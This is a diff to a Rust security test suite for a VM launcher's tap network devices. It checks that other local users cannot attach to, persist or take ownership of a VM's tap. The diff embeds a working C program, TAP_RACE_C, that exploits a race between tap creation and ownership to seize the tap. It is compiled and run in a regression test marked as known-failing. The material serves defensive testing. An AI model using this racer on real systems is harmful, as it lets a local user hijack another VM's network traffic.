@@ -198,10 +198,14 @@ fn tap_sys(ns: &Netns, tap: &str, file: &str) -> String {
 }
 
 /// Every attack on each of `taps` (name, queues) is refused while
-/// `holder` holds all their queues; the taps stay the principal's
-/// (`owner`), not persistent, with their queues and nobody else's.
+/// `holder` holds all their queues; the taps stay `owner`'s (owner and
+/// group), not persistent, with their queues and nobody else's.
 fn taps_refuse_other_users(ns: &Netns, holder: u32, owner: u32, taps: &[(&str, usize)]) {
-    let attacker = uid(349);
+    taps_refuse(ns, holder, owner, uid(349), taps);
+}
+
+/// [`taps_refuse_other_users`] with `attacker` as the attacker's uid.
+fn taps_refuse(ns: &Netns, holder: u32, owner: u32, attacker: u32, taps: &[(&str, usize)]) {
     let refused = "attach=errno1 attach-persist=errno77 attach-owner=errno77 \
                    attach-queue=errno1 attach-queue-persist=errno77 attach-queue-owner=errno77";
     let mut want: Vec<String> = Vec::new();
@@ -212,7 +216,7 @@ fn taps_refuse_other_users(ns: &Netns, holder: u32, owner: u32, taps: &[(&str, u
     assert_eq!(tun_fds_of(holder), want);
     for (tap, _) in taps {
         // EPERM for the attach (the tap has an owner and a group that are
-        // not the attacker's), EBADFD after it: an fd attached to no tap
+        // not the attacker's: root's), EBADFD after it: an fd attached to no tap
         // can neither persist nor own one.
         let got = attack_tap(ns, tap, attacker);
         assert_eq!(got, refused, "{tap}: a local user reached the VM's tap");
@@ -224,6 +228,48 @@ fn taps_refuse_other_users(ns: &Netns, holder: u32, owner: u32, taps: &[(&str, u
     }
     // The hypervisor still holds every queue, and no one else got one.
     assert_eq!(tun_fds_of(holder), want);
+}
+
+/// A tap is its VM's alone, even against a process of its principal's uid
+/// outside the sandbox (one the seccomp filter does not hold, which the
+/// filter's refusal of `TUNSETPERSIST`, `TUNSETOWNER` and `SIOCSIFHWADDR`
+/// on a tap assumes never has a queue): a tap owned by the principal would
+/// let it attach one more queue by name, then make the tap persistent,
+/// hand it away or set its MAC. Root owns the taps whose fds it hands on
+/// (the hypervisor never attaches by name: its `TUNSETIFF` is refused),
+/// and the probe in the VM's sandbox holds the queues as the hypervisor
+/// would.
+#[test]
+fn a_tap_is_its_vms_alone_even_from_its_principals_uid_unsandboxed() {
+    require_root();
+    let env = Env::new();
+    let ns = Netns::new("mqp");
+    ns.bridge("br0");
+    let u = uid(344);
+    let mut spec = env.spec("mqp", u);
+    spec["vcpus"] = json!(2);
+    spec["interfaces"] = json!([{ "tap": "vmw-mqp2", "bridge": "br0", "queues": 2 }]);
+    env.write_spec("mqp", &spec);
+    let mut c = ns.cmd(&env, LAUNCH, &["mqp"]);
+    c.args(["--probe", "--", "sleep", "600"]);
+    let mut g = spawn_logged(c, env.path("mqp.log"));
+    wait_until(
+        "the probe, the principal, holding the taps",
+        Duration::from_secs(30),
+        || {
+            tun_fds_of(g.pid()).len() == 2
+                && proc_status(g.pid(), "Uid") == format!("{0}\t{0}\t{0}\t{0}", u)
+        },
+    );
+    taps_refuse(&ns, g.pid(), 0, u, &[("vmw-mqp2", 2)]);
+    g.kill();
+    wait_until(
+        "the tap gone with the probe",
+        Duration::from_secs(10),
+        || !ns.has_link("vmw-mqp2"),
+    );
+    let (o, rep) = ns.cleanup(&env, "mqp");
+    assert!(o.status.success() && rep["clean"] == true, "{}", text(&o));
 }
 
 /// A tap is its VM's alone, whatever its queue count: the real QEMU's
@@ -247,7 +293,7 @@ fn a_tap_is_its_vms_alone_whatever_its_queue_count_qemu() {
     env.write_spec("mqo", &spec);
     let mut g = ns.start(&env, "mqo");
     g.wait_for("VMWARDEN-GUEST-READY", BOOT);
-    taps_refuse_other_users(&ns, g.pid(), u, &[("vmw-mqo2", 2), ("vmw-mqo4", 4)]);
+    taps_refuse_other_users(&ns, g.pid(), 0, &[("vmw-mqo2", 2), ("vmw-mqo4", 4)]);
     g.kill();
     wait_until("the taps gone with QEMU", Duration::from_secs(10), || {
         !ns.has_link("vmw-mqo2") && !ns.has_link("vmw-mqo4")
@@ -295,7 +341,7 @@ fn a_tap_is_its_vms_alone_whatever_its_queue_count_cloud_hypervisor() {
         proc_status(g.pid(), "Uid"),
         format!("{0}\t{0}\t{0}\t{0}", u)
     );
-    taps_refuse_other_users(&ns, g.pid(), u, &[("vmw-mqc2", 2), ("vmw-mqc4", 4)]);
+    taps_refuse_other_users(&ns, g.pid(), 0, &[("vmw-mqc2", 2), ("vmw-mqc4", 4)]);
     g.child.kill().unwrap();
     g.wait_exit(Duration::from_secs(10)).unwrap();
     wait_until(
@@ -307,4 +353,156 @@ fn a_tap_is_its_vms_alone_whatever_its_queue_count_cloud_hypervisor() {
     assert!(o.status.success() && rep["clean"] == true, "{}", text(&o));
     let v = ns.vmwarden(&env, &["verify-clean", "mqc"]);
     assert!(v.status.success(), "{}", text(&v));
+}
+
+/// A local user that spins on `TUNSETIFF` of a tap's name while the
+/// launcher makes it (the name is in the VM's spec), in C so that it
+/// spends its time in the kernel, two processes of it: `/dev/net/tun`
+/// opened as root (on NixOS the node is 0666), then the ids dropped to
+/// the attacker's with no supplementary group. Each tries `TUNSETIFF` as
+/// one more queue of a multi-queue tap until it succeeds, or the tap has
+/// an owner (the window is closed), or `limit` seconds pass. On success it
+/// detaches its queue at once (`TUNSETQUEUE`, so that the tap shows no
+/// more queues than the VM's), waits for the owner, then makes the tap
+/// persistent, re-attaches its queue and makes the tap its own, prints
+/// `WON` with the kernel's answers (0: done) and holds its queue until
+/// killed; else it prints `LOST`. Arguments: tap name, attacker uid,
+/// limit in seconds.
+const TAP_RACE_C: &str = r#"
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <grp.h>
+#include <linux/if.h>
+#include <linux/if_tun.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <signal.h>
+#include <sys/ioctl.h>
+#include <sys/prctl.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+#include <errno.h>
+static int owned(const char *name) {
+  char p[128], b[32] = {0};
+  snprintf(p, sizeof p, "/sys/class/net/%s/owner", name);
+  int f = open(p, O_RDONLY);
+  if (f < 0) return 0;
+  int n = read(f, b, sizeof b - 1);
+  close(f);
+  return n > 0 && strncmp(b, "-1", 2) != 0;
+}
+int main(int argc, char **argv) {
+  const char *name = argv[1];
+  uid_t uid = atoi(argv[2]);
+  int limit = atoi(argv[3]);
+  int fd = open("/dev/net/tun", O_RDWR);
+  if (fd < 0 || setgroups(0, NULL) || setresgid(uid, uid, uid) || setresuid(uid, uid, uid)) { perror("setup"); return 1; }
+  struct ifreq req; memset(&req, 0, sizeof req);
+  strncpy(req.ifr_name, name, IFNAMSIZ - 1);
+  req.ifr_flags = IFF_TAP | IFF_NO_PI | IFF_VNET_HDR | IFF_MULTI_QUEUE;
+  printf("READY\n"); fflush(stdout);
+  /* Two racers, one a core; the second dies with the first. */
+  pid_t twin = fork();
+  if (twin == 0) prctl(PR_SET_PDEATHSIG, SIGKILL);
+  time_t end = time(NULL) + limit;
+  long n = 0;
+  int done = 0;
+  while (!done && time(NULL) < end) {
+    done = owned(name);
+    for (int i = 0; i < 1000; i++) {
+      n++;
+      struct ifreq r = req;
+      if (ioctl(fd, TUNSETIFF, &r) == 0) {
+        struct ifreq q; memset(&q, 0, sizeof q); q.ifr_flags = IFF_DETACH_QUEUE;
+        int d = ioctl(fd, TUNSETQUEUE, &q);
+        while (!owned(name)) usleep(1000);
+        int p = ioctl(fd, TUNSETPERSIST, 1);
+        q.ifr_flags = IFF_ATTACH_QUEUE;
+        int a = ioctl(fd, TUNSETQUEUE, &q);
+        int o = ioctl(fd, TUNSETOWNER, uid);
+        printf("WON after %ld attempts: detach=%d, then with the tap owned: persist=%d reattach=%d owner=%d\n", n, d, p, a, o);
+        fflush(stdout);
+        pause();
+      }
+    }
+  }
+  printf("LOST after %ld attempts\n", n);
+  fflush(stdout);
+  if (twin > 0) waitpid(twin, NULL, 0);
+  return 0;
+}
+"#;
+
+/// A tap is its VM's alone from the moment it is made: a local user that
+/// spins on `TUNSETIFF` of the tap's name (the spec names it) while the
+/// launcher makes a four-queue tap never gets a queue of it, in any of
+/// several launches. Owner and group set only after the tap and its queues
+/// exist (`own_for` after `create_tap_queues`) leave a window in which
+/// the tap has neither, and the kernel then lets anyone attach one more
+/// queue; an attached (or detached) queue keeps every tun ioctl after the
+/// owner is set (`TUNSETPERSIST`, `TUNSETOWNER`, a re-attach by
+/// `TUNSETQUEUE`, which checks no owner).
+#[test]
+#[ignore = "open: fails on main (the window between TUNSETIFF and TUNSETOWNER); the fix makes the tap where no other user can name it (see docs/design/threat-model.md, A tap is its VM's alone)"]
+fn a_tap_is_its_vms_alone_from_the_moment_it_is_made() {
+    require_root();
+    let env = Env::new();
+    let ns = Netns::new("mqr");
+    ns.bridge("br0");
+    let u = uid(343);
+    let attacker = uid(349);
+    let mut spec = env.spec("mqr", u);
+    spec["vcpus"] = json!(2);
+    spec["interfaces"] = json!([{ "tap": "vmw-mqr4", "bridge": "br0", "queues": 4 }]);
+    env.write_spec("mqr", &spec);
+    let src = env.path("race.c");
+    let racer_bin = env.path("race");
+    std::fs::write(&src, TAP_RACE_C).unwrap();
+    let cc = std::process::Command::new("cc")
+        .arg("-O2")
+        .arg("-o")
+        .arg(&racer_bin)
+        .arg(&src)
+        .output()
+        .unwrap();
+    assert!(cc.status.success(), "cc: {}", text(&cc));
+    for round in 0..40 {
+        let mut race = std::process::Command::new("ip");
+        race.args(["netns", "exec", &ns.name])
+            .arg(&racer_bin)
+            .arg("vmw-mqr4")
+            .arg(attacker.to_string())
+            .arg("15");
+        let mut racer = spawn_logged(race, env.path(&format!("mqr-race{round}.log")));
+        racer.wait_for("READY", Duration::from_secs(10));
+        let mut c = ns.cmd(&env, LAUNCH, &["mqr"]);
+        c.args(["--probe", "--", "sleep", "600"]);
+        let mut g = spawn_logged(c, env.path(&format!("mqr{round}.log")));
+        wait_until("the launch's tap", Duration::from_secs(30), || {
+            tun_fds_of(g.pid()).len() == 4
+        });
+        wait_until("the racer's verdict", Duration::from_secs(30), || {
+            racer
+                .log_text()
+                .lines()
+                .filter(|l| l.starts_with("WON") || l.starts_with("LOST"))
+                .count()
+                > 1
+        });
+        let log = racer.log_text();
+        let line = log.lines().find(|l| l.starts_with("WON")).unwrap_or("LOST");
+        g.kill();
+        racer.kill();
+        assert!(
+            line.starts_with("LOST"),
+            "round {round}: a local user attached a queue to the VM's tap while it was made: {line}"
+        );
+        wait_until("the tap gone", Duration::from_secs(10), || {
+            !ns.has_link("vmw-mqr4")
+        });
+        let (o, rep) = ns.cleanup(&env, "mqr");
+        assert!(o.status.success() && rep["clean"] == true, "{}", text(&o));
+    }
 }
